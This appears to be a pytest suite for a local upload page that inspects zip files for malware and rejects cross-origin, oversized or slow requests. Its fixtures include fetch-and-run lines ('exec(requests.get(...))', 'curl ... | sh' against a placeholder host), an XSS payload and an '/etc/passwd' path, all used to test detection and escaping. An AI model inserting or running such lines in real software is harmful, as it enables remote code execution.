"""The page to drop a file on: for its own visitors alone, within its limits, and without keeping anything."""

import http.client
import io
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import closing, suppress
from pathlib import Path

import pytest

from inspection.test_upload import TYPE, form
from sekisho.inspection.serve import Server

EVIL = "<img src=x onerror=alert(1)>\u202e"


def zipped(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


HOSTILE = zipped({"task/app.py": "import requests\nexec(requests.get('https://a.invalid').text)\n"})


@pytest.fixture(scope="module")
def running() -> Iterator[Server]:
    with Server("127.0.0.1", 0, workers=1, most=1_000_000) as made:
        thread = threading.Thread(target=made.serve_forever, args=(0.01,), daemon=True)
        thread.start()
        yield made
        made.shutdown()


def ask(running: Server, verb: str, path: str, body: bytes = b"", **headers: str) -> tuple[int, str, str]:
    """Status, page and content security policy. Underscores in names of headers are dashes; an empty one is none."""
    connection = http.client.HTTPConnection("127.0.0.1", running.port, timeout=60)
    own = {"Host": f"127.0.0.1:{running.port}", "Origin": f"http://127.0.0.1:{running.port}", "Content-Type": TYPE}
    said = own | {"Content-Length": str(len(body))} | {name.replace("_", "-"): value for name, value in headers.items()}
    connection.putrequest(verb, path, skip_host=True)
    for name, value in said.items():
        if value:
            connection.putheader(name, value)
    connection.endheaders(body)
    answer = connection.getresponse()
    page = answer.read().decode()
    connection.close()
    return answer.status, page, answer.headers["Content-Security-Policy"]


def test_a_zip_that_is_dropped_is_inspected(running: Server) -> None:
    status, page, policy = ask(running, "POST", "/inspect", form(('; filename="test.zip"', HOSTILE)))
    assert status == 200
    assert "BLOCK: Do not open, install or run this." in page
    assert "test.zip!/task/app.py:2" in page
    assert policy.startswith("default-src 'none'; ")
    assert "script-src" not in policy


def test_a_strangers_text_is_no_markup(running: Server) -> None:
    data = zipped({f"{EVIL}/setup.py": "import os\nos.system('curl https://a.invalid | sh')  # <b>\n"})
    _, page, _ = ask(running, "POST", "/inspect", form((f'; filename="{EVIL}.zip"', data)))
    assert "BLOCK" in page
    assert "<img" not in page
    assert "<b>\n" not in page
    assert "\u202e" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;\\u202e" in page


TURNED_AWAY = {
    "another name for this address": ("POST", "/inspect", 403, {"Host": "a.invalid"}),
    "another port": ("POST", "/inspect", 403, {"Host": "127.0.0.1:1"}),
    "a form on another page": ("POST", "/inspect", 403, {"Origin": "https://a.invalid"}),
    "a page that hides where it is": ("POST", "/inspect", 403, {"Origin": "null"}),
    "nobody's form": ("POST", "/inspect", 403, {"Origin": ""}),
    "a look by another name": ("GET", "/", 403, {"Host": "a.invalid"}),
    "another path": ("GET", "/etc/passwd", 404, {}),
    "a post elsewhere": ("POST", "/", 404, {}),
    "no length": ("POST", "/inspect", 411, {"Content_Length": ""}),
    "a length that is none": ("POST", "/inspect", 411, {"Content_Length": "-1"}),
    "no form": ("POST", "/inspect", 400, {"Content_Type": "text/plain"}),
}


@pytest.mark.parametrize(("verb", "path", "status", "headers"), TURNED_AWAY.values(), ids=TURNED_AWAY)
def test_turned_away(running: Server, verb: str, path: str, status: int, headers: dict[str, str]) -> None:
    got, page, _ = ask(running, verb, path, form(('; filename="a.zip"', HOSTILE)) if verb == "POST" else b"", **headers)
    assert got == status
    assert "BLOCK" not in page


def test_too_much_is_said_once_all_was_sent(running: Server) -> None:
    status, page, _ = ask(running, "POST", "/inspect", form(('; filename="a.zip"', bytes(3_000_000))))
    assert status == 413
    assert "more than 1 megabytes" in page


def test_one_file_at_a_time(running: Server) -> None:
    with running.turn:
        status, page, _ = ask(running, "POST", "/inspect", form(('; filename="a.zip"', HOSTILE)))
    assert status == 503
    assert "try again" in page
    assert ask(running, "POST", "/inspect", form(('; filename="a.zip"', HOSTILE)))[0] == 200


def test_a_visitor_who_leaves_frees_the_turn(running: Server) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", running.port, timeout=60)
    origin = f"http://127.0.0.1:{running.port}"
    connection.putrequest("POST", "/inspect")
    for name, value in (("Origin", origin), ("Content-Type", TYPE), ("Content-Length", "1000")):
        connection.putheader(name, value)
    connection.endheaders(b"--xx")
    connection.close()
    status, until = 503, time.monotonic() + 20
    while status == 503 and time.monotonic() < until:
        status, _, _ = ask(running, "POST", "/inspect", form(('; filename="a.zip"', HOSTILE)))
        time.sleep(0.05)
    assert status == 200


def test_a_visitor_who_stops_talking_frees_the_turn(running: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sekisho.inspection.serve._Handler.timeout", 0.3)
    with closing(http.client.HTTPConnection("127.0.0.1", running.port, timeout=60)) as silent:
        silent.putrequest("POST", "/inspect")
        for name, value in (("Origin", f"http://127.0.0.1:{running.port}"), ("Content-Length", "1000")):
            silent.putheader(name, value)
        silent.endheaders(b"--xx")
        status, until = 503, time.monotonic() + 20
        while status == 503 and time.monotonic() < until:
            status, _, _ = ask(running, "POST", "/inspect", form(('; filename="a.zip"', HOSTILE)))
            time.sleep(0.05)
    assert status == 200


def test_a_visitor_who_drips_frees_the_turn(running: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sekisho.inspection.serve._DEADLINE", 1)
    with closing(http.client.HTTPConnection("127.0.0.1", running.port, timeout=60)) as slow:
        slow.putrequest("POST", "/inspect")
        for name, value in (("Origin", f"http://127.0.0.1:{running.port}"), ("Content-Length", "100000")):
            slow.putheader(name, value)
        slow.endheaders(b"--xx")
        until, answered = time.monotonic() + 10, b""
        slow.sock.settimeout(0.05)
        while not answered and time.monotonic() < until:
            slow.send(b"x")
            with suppress(TimeoutError):
                answered = slow.sock.recv(100)
    assert b" 400 " in answered


def test_nothing_is_stored(tmp_path: Path) -> None:
    code = """
import os, sys, threading, urllib.request
from inspection.test_upload import TYPE, form
from inspection.test_serve import HOSTILE, ask
from sekisho.inspection.serve import Server
wrote = []
def watch(event, arguments):
    writes = os.O_WRONLY | os.O_RDWR | os.O_CREAT
    if event == "open" and isinstance(arguments[0], str) and arguments[2] & writes:
        wrote.append(str(arguments[0]))
    elif event in ("os.mkdir", "os.rename", "os.link", "os.symlink", "tempfile.mkstemp", "tempfile.mkdtemp"):
        wrote.append(event)
sys.addaudithook(watch)
with Server("127.0.0.1", 0, workers=1) as running:
    threading.Thread(target=running.serve_forever, args=(0.01,), daemon=True).start()
    print(ask(running, "POST", "/inspect", form(('; filename="a.zip"', HOSTILE)))[0])
    running.shutdown()
print([each for each in wrote if each != "/dev/null" and "__pycache__" not in each])
"""
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=Path(__file__).parents[1], env={"PYTHONPATH": "."}, capture_output=True,
        text=True, check=False,
    )  # fmt: skip
    assert done.stdout == "200\n[]\n", done.stderr
